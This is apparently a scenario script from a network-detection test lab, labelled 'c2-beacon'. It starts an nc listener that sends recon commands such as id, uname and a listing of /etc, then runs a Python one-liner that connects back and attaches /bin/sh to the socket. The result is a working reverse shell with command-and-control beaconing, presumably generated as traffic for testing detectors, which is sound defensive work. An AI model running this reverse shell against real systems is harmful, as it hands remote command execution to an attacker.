# SPDX-License-Identifier: MIT
# label: c2-beacon
# source: lab-nc
# needs: nc python3
# seconds: 150
# A shell that calls back: commands come in, their output goes out.
. $lab/victims.sh

servers() {
	_port=$(choose 4444 443 1337)
	# shellcheck disable=SC2016
	serve s sh -c \
		'(sleep 4; while :; do echo "id; uname -a; ls -la /etc | head -$(($(date +%s) % 40))"
		sleep $(($(date +%s) % 9 + 2)); done) | nc -n -l -p "$1"' sh "$_port"
	listening s "$_port"
}

scenario() {
	setting options "port $_port"
	# shellcheck disable=SC2016
	attack f s tcp "$_port" -- timeout 120 python3 -c 'import os, socket, subprocess, sys
end = socket.create_connection((sys.argv[1], int(sys.argv[2])))
subprocess.run(["/bin/sh"], stdin=end.fileno(), stdout=end.fileno(), stderr=end.fileno())' \
		"$(addr s)" "$_port"
}
